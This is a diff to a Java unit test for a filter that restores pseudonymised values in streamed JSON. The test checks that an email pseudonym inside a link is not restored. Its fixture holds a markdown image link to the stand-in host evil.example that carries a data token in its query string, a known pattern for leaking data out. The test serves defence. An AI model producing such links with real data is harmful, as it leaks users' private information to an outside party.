@@ -95,7 +95,7 @@ class RestoredTextTest {
     @DisplayName("S18 in JSON, values are not restored in links, and are behind them")
     void s18_linksInJson_keepPseudonyms() {
         String link =
-                "{\"a\":\"![x](https:\\/\\/evil.example/?d=MAIL_9e07aabbccddeeff)\",\"b\":\"https://example.org\\n";
+                "{\"a\":\"![x](https:\\/\\/evil.example/?d=MAIL_9e07aabbccddeeff)\",\"b\":\"see https://example.org\\n";
         StreamFilter filter = TABLE.restoringJson(false);
         assertThat(filter.accept(link + "MAIL_9e07aabbccddeeff\"}") + filter.finish())
                 .isEqualTo(link + "anna@example.org\"}");
